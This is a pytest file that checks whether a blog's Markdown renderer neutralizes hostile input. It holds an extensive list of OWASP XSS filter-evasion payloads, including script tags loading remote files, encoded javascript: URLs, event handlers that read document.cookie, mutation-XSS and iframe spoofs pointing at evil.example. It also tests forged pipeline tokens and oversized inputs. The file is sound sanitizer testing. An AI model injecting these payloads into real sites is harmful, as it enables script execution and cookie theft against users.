"""Hostile input: the OWASP XSS filter-evasion payloads, forged pipeline tokens, and 200 KB
pathological shapes (`tests.logs.pathological`), through `render()` and `render_comment()`.

Output must be safe (`assert_safe`), with one exception it does not know: an iframe may survive,
but only an https player URL on YouTube (-nocookie), Vimeo or Bilibili, sandboxed, with no
credentials, port or dot segments. Video and audio play only this site's files. Output size is
bounded; how long a shape takes is the benchmark's business, not a test's.
"""

from __future__ import annotations

import html as html_lib
import re
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest

from bench.shapes import SHAPES
from logs import markdown
from logs.markdown import render, render_comment, toggle_task
from tests.logs.test_markdown import Elements, assert_safe

SEED = Path(__file__).parents[1] / "fixtures" / "jekyll" / "2022-02-09-week04-day015.md"

# What may survive ------------------------------------------------------------------------------

_PLAYERS = {
    "www.youtube-nocookie.com": "/embed/",
    "www.youtube.com": "/embed/",
    "youtube.com": "/embed/",
    "player.vimeo.com": "/video/",
    "player.bilibili.com": "/player.html",
}
_SANDBOX_ALLOWED = {"allow-scripts", "allow-same-origin", "allow-presentation", "allow-popups"}
_FRAME_TAG = re.compile(r"""<iframe\b(?:[^>"']|"[^"]*"|'[^']*')*>""", re.I)
_LOCAL = re.compile(r"^/(?![/\\])")


def is_player(src: str) -> bool:
    """An https URL of a known player, read as a browser would (dot segments resolved)."""
    url = urlsplit(src.strip())
    prefix = _PLAYERS.get(url.hostname or "")
    segments = unquote(url.path).replace("\\", "/").split("/")
    return (
        url.scheme == "https"
        and prefix is not None
        and url.port is None
        and url.username is None
        and "@" not in url.netloc
        and url.path.startswith(prefix)
        and not {".", ".."} & set(segments)
    )


def assert_hostile_safe(fragment: str) -> None:
    if not re.search(r"<(?:iframe|video|audio|source)\b", fragment):
        assert_safe(fragment)  # one parse: big outputs take seconds in HTMLParser
        return
    elements = Elements(fragment)
    for frame in elements.find("iframe"):
        assert is_player(frame.get("src", "")), fragment
        assert "sandbox" in frame, fragment
        assert set(frame["sandbox"].split()) <= _SANDBOX_ALLOWED, fragment
        assert "srcdoc" not in frame and "allow" not in frame, fragment
    for tag in ("video", "audio", "source"):
        for attrs in elements.find(tag):
            for name in ("src", "poster"):
                if name in attrs:
                    assert _LOCAL.match(attrs[name]), fragment
    assert_safe(_FRAME_TAG.sub("", fragment))  # `assert_safe` refuses every iframe


# (a) OWASP filter evasion -----------------------------------------------------------------------

_DECIMAL = "".join(f"&#{ord(c)};" for c in "javascript:alert('XSS')")
_DECIMAL_PADDED = "".join(f"&#{ord(c):07d}" for c in "javascript:alert('XSS')")
_HEX = "".join(f"&#x{ord(c):X}" for c in "javascript:alert('XSS')")
_SVG_B64 = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"
_HTML_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="

OWASP = [
    # Scripts, however spelled
    ("script-src", "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>"),
    ("script-slash-attribute", '<SCRIPT/XSS SRC="https://xss.rocks/xss.js"></SCRIPT>'),
    ("script-slash-src", '<SCRIPT/SRC="https://xss.rocks/xss.js"></SCRIPT>'),
    ("script-extra-open-bracket", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
    ("script-unclosed", "<SCRIPT SRC=https://xss.rocks/xss.js?< B >"),
    ("script-protocol-relative", "<SCRIPT SRC=//xss.rocks/.j>"),
    ("script-gt-in-attribute", '<SCRIPT a=">" SRC="https://xss.rocks/xss.js"></SCRIPT>'),
    ("script-split-by-script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("title-breakout", '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'),
    ("quotes-breakout", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'),
    ("conditional-comment", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("template", "<template><script>alert(1)</script></template>"),
    # javascript: in img src, however encoded
    ("img-js-quoted", "<IMG SRC=\"javascript:alert('XSS');\">"),
    ("img-js-unquoted", "<IMG SRC=javascript:alert('XSS')>"),
    ("img-js-case", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
    ("img-js-entity-quotes", "<IMG SRC=javascript:alert(&quot;XSS&quot;)>"),
    ("img-js-backticks", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"),
    ("img-js-fromcharcode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"),
    ("img-js-decimal-entities", f"<IMG SRC={_DECIMAL}>"),
    ("img-js-decimal-no-semicolons", f"<IMG SRC={_DECIMAL_PADDED}>"),
    ("img-js-hex-no-semicolons", f"<IMG SRC={_HEX}>"),
    ("img-js-embedded-tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">"),
    ("img-js-encoded-tab", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">"),
    ("img-js-encoded-newline", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">"),
    ("img-js-encoded-cr", "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">"),
    ("img-js-null-byte", '<IMG SRC=java\x00script:alert("XSS")>'),
    ("img-js-leading-spaces-and-meta", "<IMG SRC=\" &#14;  javascript:alert('XSS');\">"),
    ("img-vbscript", "<IMG SRC='vbscript:msgbox(\"XSS\")'>"),
    ("img-dynsrc-lowsrc", "<IMG DYNSRC=\"javascript:alert('XSS')\"><IMG LOWSRC=\"javascript:alert('XSS')\">"),
    ("img-srcset", '<img src="/a.png" srcset="javascript:alert(1) 1x">'),
    # Event handlers
    ("a-onmouseover-quoted", '<a onmouseover="alert(document.cookie)">xxs link</a>'),
    ("a-onmouseover-unquoted", "<a onmouseover=alert(document.cookie)>xxs link</a>"),
    ("img-hash-onmouseover", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    ("img-empty-src-onmouseover", "<IMG SRC= onmouseover=\"alert('xxs')\">"),
    ("img-no-src-onmouseover", "<IMG onmouseover=\"alert('xxs')\">"),
    ("img-onerror-fromcharcode", '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'),
    ("img-onerror-encoded", f'<img src=x onerror="{_DECIMAL_PADDED}">'),
    ("img-slashes-for-spaces", '<img/src="x"/onerror=alert(1)>'),
    ("img-no-space-before-handler", '<img src="x"onerror="alert(1)">'),
    ("img-eval-src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    ("body-onload-junk", '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'),
    ("body-onload", "<BODY ONLOAD=alert('XSS')>"),
    ("svg-slash-onload", "<svg/onload=alert('XSS')>"),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>s</summary></details>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("unknown-tag-onclick", "<x onclick=alert(1)>click me</x>"),
    ("autofocus-onfocus", "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>"),
    ("allowed-tags-with-handlers", '<div align="center" onclick="alert(1)"><h3 data-toc-skip onmouseover=alert(1)>t</h3></div>'),
    # Other URL attributes
    ("input-image-src", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">"),
    ("body-background", "<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
    ("table-background", "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TR></TABLE>"),
    ("bgsound", "<BGSOUND SRC=\"javascript:alert('XSS');\">"),
    ("br-size-js-entity", "<BR SIZE=\"&{alert('XSS')}\">"),
    ("link-stylesheet", "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">"),
    ("link-import", "<link rel=import href=data:text/html,<script>alert(1)</script>>"),
    ("a-js-entity-in-scheme", '<a href="jav&#x61;script:alert(1)">x</a>'),
    ("a-js-leading-entity", '<a href="&#x6A;avascript:alert(1)">x</a>'),
    ("a-js-named-colon", '<a href="javascript&colon;alert(1)">x</a>'),
    ("a-js-named-tab", '<a href="java&Tab;script:alert(1)">x</a>'),
    ("a-js-leading-null-entity", '<a href="&#0;javascript:alert(1)">x</a>'),
    ("a-js-leading-control", '<a href="\x01javascript:alert(1)">x</a>'),
    ("a-js-document-location", "<A HREF=\"javascript:document.location='https://www.google.com/'\">XSS</A>"),
    ("a-data-html", f'<a href="data:text/html;base64,{_HTML_B64}">x</a>'),
    ("img-data-svg", f'<img src="data:image/svg+xml;base64,{_SVG_B64}">'),
    ("markdown-link-js-colon-entity", "[x](javascript&#58;alert(1))"),
    ("markdown-link-angle-js", "[x](<javascript:alert(1)>)"),
    ("markdown-image-data-html", f"![x](data:text/html;base64,{_HTML_B64})"),
    # Styles
    ("style-list-image", "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>"),
    ("style-import", "<STYLE>@import'https://xss.rocks/xss.css';</STYLE>"),
    ("style-moz-binding", '<STYLE>BODY{-moz-binding:url("https://xss.rocks/xssmoz.xml#xss")}</STYLE>'),
    ("style-behavior", '<XSS STYLE="behavior: url(xss.htc);">'),
    ("style-expression-comment", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">"),
    ("style-expression-div", "<div style=\"width: expression(alert('XSS'));\">x</div>"),
    ("style-background-js", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>"),
    ("style-escaped-url", "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0027\\0058\\0053\\0053\\0027\\0029'\\0029\">x</DIV>"),
    ("font-color-css-injection", '<font color="red;background:url(javascript:alert(1))">x</font>'),
    ("img-width-injection", '<img src="/a.png" width="100 onerror=alert(1)" height="1;x:expression(alert(1))">'),
    # Document-level tags
    ("meta-refresh-js", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">"),
    ("meta-refresh-data", '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'),
    ("meta-link-header", '<META HTTP-EQUIV="Link" Content="<https://xss.rocks/xss.css>; REL=stylesheet">'),
    ("meta-charset-utf7", '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"></HEAD>+ADw-SCRIPT+AD4-alert(\'XSS\');+ADw-/SCRIPT+AD4-'),
    ("base-href-js", "<BASE HREF=\"javascript:alert('XSS');//\">"),
    ("base-href-foreign", '<base href="https://evil.example/">'),
    ("object-scriptlet", '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.rocks/scriptlet.html"></OBJECT>'),
    ("object-data-html", f'<object data="data:text/html;base64,{_HTML_B64}"></object>'),
    ("embed-svg-data", f'<EMBED SRC="data:image/svg+xml;base64,{_SVG_B64}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>'),
    ("embed-js", "<embed src=javascript:alert(1)>"),
    ("frameset", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>"),
    ("xml-data-island", "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>"),
    ("xml-import-htc", '<HTML xmlns:xss><?import namespace="xss" implementation="https://xss.rocks/xss.htc"><xss:xss>XSS</xss:xss></HTML>'),
    ("processing-instruction", '<?xml-stylesheet href="javascript:alert(1)"?>'),
    # Forms
    ("form-action-js", '<form action="javascript:alert(1)"><input type=submit></form>'),
    ("button-formaction", "<form><button formaction=javascript:alert(1)>x</button></form>"),
    ("button-form-attribute", "<button form=test formaction=javascript:alert(1)>x</button>"),
    ("isindex", "<isindex action=javascript:alert(1) type=image>"),
    # Mutation XSS through foreign content
    ("math-mtext-mglyph-style", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'),
    ("math-mtext-h1-svg-style", '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>'),
    ("math-href", '<math href="javascript:alert(1)">CLICKME</math>'),
    ("math-maction-xlink", '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>'),
    ("noscript-title-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'),
    ("svg-style-img", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    # Frames
    ("iframe-js", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>"),
    ("iframe-js-unquoted", "<iframe src=javascript:alert(1)>"),
    ("iframe-hash-onmouseover", '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'),
    ("iframe-unclosed-tag", "<iframe src=https://xss.rocks/scriptlet.html <"),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("iframe-player-with-srcdoc-and-handler", '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>" onload=alert(1) allow="camera; microphone"></iframe>'),
    ("iframe-player-own-sandbox", '<iframe src="https://www.youtube-nocookie.com/embed/x" sandbox="allow-top-navigation allow-forms allow-scripts allow-modals"></iframe>'),
    ("iframe-player-script-inside", '<iframe src="https://www.youtube.com/embed/x"><script>alert(1)</script></iframe>'),
    ("iframe-player-credentials", '<iframe src="https://user:pw@www.youtube.com/embed/x"></iframe>'),
    ("iframe-player-host-as-credentials", '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>'),
    ("iframe-player-backslash-credentials", '<iframe src="https://www.youtube.com\\@evil.example/embed/x"></iframe>'),
    ("iframe-player-odd-port", '<iframe src="https://www.youtube.com:8443/embed/x"></iframe>'),
    ("iframe-player-http", '<iframe src="http://www.youtube.com/embed/x"></iframe>'),
    ("iframe-player-protocol-relative", '<iframe src="//www.youtube.com/embed/x"></iframe>'),
    ("iframe-player-lookalike-host", '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>'),
    ("iframe-player-js-scheme", '<iframe src="javascript://www.youtube.com/embed/%0aalert(1)"></iframe>'),
    ("iframe-player-data", f'<iframe src="data:text/html;base64,{_HTML_B64}"></iframe>'),
    ("iframe-player-dot-segments", '<iframe src="https://www.youtube.com/embed/../../redirect?q=https://evil.example"></iframe>'),
    ("iframe-player-encoded-dot-segments", '<iframe src="https://www.youtube.com/embed/%2e%2e/%2e%2e/redirect?q=x"></iframe>'),
    ("iframe-non-player-path", '<iframe src="https://www.youtube.com/watch?v=x"></iframe>'),
    # Media
    ("video-external-src-and-poster", '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" controls></video>'),
    ("video-protocol-relative-poster", '<video src="/a.mp4" poster="//evil.example/p.png"><source src="https://evil.example/v.mp4"></video>'),
    ("audio-js", '<audio src="javascript:alert(1)" controls onplay=alert(1)></audio>'),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    # Markdown and Liquid around the HTML
    ("include-youtube-id-breakout", "{% include embed/youtube.html id='x\" onload=\"alert(1)' %}"),
    ("include-video-js", "{% include embed/video.html src='javascript:alert(1)' %}"),
    ("include-video-protocol-relative", "{% include embed/video.html src='//evil.example/v.mp4' %}"),
    ("include-audio-breakout", "{% include embed/audio.html src='/a.mp3\" onplay=\"alert(1)' %}"),
    ("attribute-list-js-src", '![x](/a.png){: src="javascript:alert(1)" onerror="alert(1)" }'),
    ("math-style-url", "$\\style{background:url(javascript:alert(1))}{x}$"),
    ("math-mathcolor-breakout", '$\\mathcolor{red" onclick="alert(1)}{x}$'),
    ("math-href-display", "$$\\href{javascript:alert(1)}{x}$$"),
    ("liquid-url-js", "[x]({{ 'javascript:alert(1)' | relative_url }})"),
    ("utf7-text", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
]  # fmt: skip


@pytest.mark.parametrize(
    "payload",
    [pytest.param(p, id=i) for i, p in OWASP],
)
def test_owasp_payloads_are_neutralized(payload: str) -> None:
    assert_hostile_safe(render(payload).html)
    assert_hostile_safe(render_comment(payload))


@pytest.mark.parametrize(
    "payload",
    [pytest.param(p, id=i) for i, p in OWASP],
)
def test_owasp_payloads_are_neutralized_inside_markdown(payload: str) -> None:
    """The same payloads in a list item, a quote and a table cell, next to real Markdown."""
    one_line = payload.replace("\n", " ").replace("|", "\\|")
    source = f"- 항목 {one_line}\n\n> 인용 {one_line}\n\n| a |\n|---|\n| {one_line} |\n\n$x$"
    assert_hostile_safe(render(source).html)
    assert_hostile_safe(render_comment(source))


def test_there_are_enough_payloads() -> None:
    assert len(OWASP) >= 60
    assert len({i for i, _ in OWASP}) == len(OWASP)


def test_a_player_survives_sandboxed_and_nothing_else_does() -> None:
    """The check above is not vacuous: a real player is kept, the rest become links or go."""
    out = render('<iframe src="https://www.youtube.com/embed/x" sandbox="allow-forms"></iframe>')
    (frame,) = Elements(out.html).find("iframe")
    assert frame["src"] == "https://www.youtube.com/embed/x"
    assert set(frame["sandbox"].split()) <= _SANDBOX_ALLOWED
    foreign = render('<iframe src="https://evil.example/x"></iframe>').html
    assert not Elements(foreign).find("iframe")
    assert [a["href"] for a in Elements(foreign).find("a")] == ["https://evil.example/x"]


@pytest.mark.parametrize(
    ("src", "expected"),
    [
        ("https://www.youtube-nocookie.com/embed/x", True),
        ("https://player.vimeo.com/video/1", True),
        ("https://player.bilibili.com/player.html?bvid=1", True),
        ("https://www.youtube.com/embed/../watch", False),
        ("https://www.youtube.com/embed/%2E%2E/watch", False),
        ("https://www.youtube.com:443/embed/x", False),
        ("https://a@www.youtube.com/embed/x", False),
        ("http://www.youtube.com/embed/x", False),
        ("https://evil.example/embed/x", False),
    ],
)
def test_the_player_check_of_these_tests(src: str, expected: bool) -> None:
    assert is_player(src) is expected


# Forged tokens ----------------------------------------------------------------------------------

# The pipeline's tokens are `q<10 hex>` + kind + index + `x`, with a nonce drawn per render; its
# math placeholders were once private-use characters. Text shaped like either is text.
FORGED = [
    ("math-token", "q0123456789m0x"),
    ("math-token-high-index", "q0123456789m999999x"),
    ("inline-attribute-token", "q0123456789i0x"),
    ("code-language-token", "q0123456789c0x"),
    ("private-use-spaced", "\ue002 0 \ue003"),
    ("private-use", "\ue0020\ue003"),
    ("private-use-hex-reference", "&#xe002;0&#xe003;"),
    ("private-use-decimal-reference", "&#57346;0&#57347;"),
]


@pytest.mark.parametrize("forged", [pytest.param(f, id=i) for i, f in FORGED])
def test_forged_tokens_render_as_text(forged: str) -> None:
    # A real formula, attribute list and code block exist, so every table has an entry 0.
    source = f"앞 {forged} 뒤 $y$\n\n![b](/b.png){{: .normal }}\n\n```python\nx = 1\n```"
    rendered = render(source)
    elements = Elements(rendered.html)
    assert rendered.html.count("<math") == 1
    assert "<mi>y</mi>" in rendered.html
    assert [img.get("class") for img in elements.find("img")] == ["normal"]
    text = html_lib.unescape(re.sub(r"<[^>]*>", "", rendered.html))
    assert "앞 " + html_lib.unescape(forged) + " 뒤" in text
    assert_hostile_safe(rendered.html)


def test_a_forged_block_attribute_list_applies_nothing() -> None:
    source = (
        "> 인용\n<!--q0123456789b0x-->\n\n![a](/a.png)q0123456789i0x\n\n![b](/b.png){: .shadow }"
    )
    out = render(source).html
    assert "<blockquote>" in out  # no class
    assert [img.get("class") for img in Elements(out).find("img")] == [None, "shadow"]
    assert "q0123456789i0x" in out


def test_a_forged_code_language_colours_nothing() -> None:
    out = render(
        '<pre lang="q0123456789c0x"><code>x = 1</code></pre>\n\n```python\ny = 2\n```'
    ).html
    assert out.count('<div class="highlight"') == 1
    assert "<code>x = 1</code>" in out  # plain: only the real fence is coloured


@pytest.mark.parametrize(
    "filler",
    [
        "&#xe002;0&#xe003;",
        "\ue0020\ue003",
        " q0123456789m0x",
        " $\\frac{a}{b}$",  # many real formulas: each is MathML at most once within a budget
    ],
)
def test_output_stays_bounded_however_many_placeholders(filler: str) -> None:
    source = "$\\sum_{i=1}^{n} \\frac{x_i^2}{\\sqrt{y_i}}$ " + filler * (38_000 // len(filler))
    for out in (render(source).html, render_comment(source)):
        assert len(out) <= 10 * len(source) + 100_000
        assert_hostile_safe(out)


# (b) Pathological shapes ------------------------------------------------------------------------


def test_shapes_are_about_the_body_limit() -> None:
    for name, make in SHAPES.items():
        assert 140_000 <= len(make().encode()) <= 200_000, name


@pytest.mark.slow  # ~1 min: the renders are fast, parsing megabytes of output in Python is not
@pytest.mark.parametrize("name", list(SHAPES))
def test_pathological_shape_renders_bounded_and_safe(name: str) -> None:
    source = SHAPES[name]()
    rendered = render(source)
    assert len(rendered.html) <= 20 * len(source) + 200_000
    assert len(rendered.excerpt) <= 200
    assert_hostile_safe(rendered.html)
    comment = render_comment(source)
    assert len(comment) <= 20 * len(source) + 200_000
    assert_hostile_safe(comment)


# The element budget: a body made of nothing but markup is shown whole, the rest as its source ---


def test_a_body_of_tiny_blocks_keeps_its_start_formatted_and_shows_the_rest_as_text() -> None:
    source = "".join(f"# 제목 {n}\n" for n in range(12_000))
    rendered = render(source)
    headings = rendered.html.count("<h1")
    assert 1_000 <= headings < 12_000
    overflow = rendered.html[rendered.html.index('<pre class="overflow">') :]
    # The rest starts with the first line not shown as a heading, and ends with the last one.
    assert overflow.startswith(f'<pre class="overflow"><code># 제목 {headings}\n')
    assert overflow.endswith("# 제목 11999</code></pre>")
    assert rendered.html.count("<") <= markdown.MAX_TAGS + 10


def test_the_text_past_the_budget_is_escaped_not_live() -> None:
    source = (
        "- [ ] 할 일\n" * 12_000 + '<img src=x onerror="alert(1)">\n<script>alert(2)</script>\n'
    )
    rendered = render(source)
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in rendered.html
    assert_hostile_safe(rendered.html)


def test_a_real_log_at_the_body_limit_is_all_formatted() -> None:
    seed = SEED.read_text()
    body = (seed + "\n\n") * (markdown.MAX_BODY_BYTES // len((seed + "\n\n").encode()))
    assert len(body.encode()) > 180_000
    assert 'class="overflow"' not in render(body).html


def test_tasks_before_the_cut_keep_the_indexes_toggle_task_edits() -> None:
    source = "- [ ] 할 일\n" * 30_000
    rendered = render(source)
    assert 'data-task-index="999"' in rendered.html
    assert toggle_task(source, 999, True).count("- [x]") == 1
